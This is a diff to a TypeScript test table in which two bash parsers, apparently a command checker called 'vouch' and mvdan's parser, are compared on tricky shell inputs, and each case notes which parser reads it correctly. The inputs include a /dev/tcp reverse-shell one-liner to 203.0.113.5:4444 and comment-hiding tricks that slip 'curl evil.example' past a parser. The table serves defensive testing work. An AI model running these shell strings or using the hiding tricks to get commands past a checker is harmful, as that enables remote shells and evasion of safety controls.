@@ -35,6 +35,7 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
   '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196': { right: 'mvdan', why: 'the same `N<>` error' },
   'H=203.0.113.5; exec 5<>"/dev/tcp/$H/80"': { right: 'mvdan', why: 'the same `N<>` error' },
   'echo \\ #; curl evil.example': { right: 'mvdan', why: 'tree-sitter-bash reads an escaped blank as a separator and the rest of the line as a comment; vouch refuses such a tree (vouch.unknown-node)' },
+  'echo x\\\n# ; curl evil.example': { right: 'mvdan', why: 'tree-sitter-bash reads a `#` after a line continuation inside a word as a comment (bash: the word `x#`); vouch refuses such a tree (vouch.unknown-node)' },
   '{ echo GET / >&3; } 3<>/dev/tcp/example.com/80': { right: 'mvdan', why: 'the same `N<>` error, on a group' },
   "echo `case x in x) $'\\\\x63\\\\x75\\\\x72\\\\x6c' https://example.com;; esac`": {
     right: 'vouch',
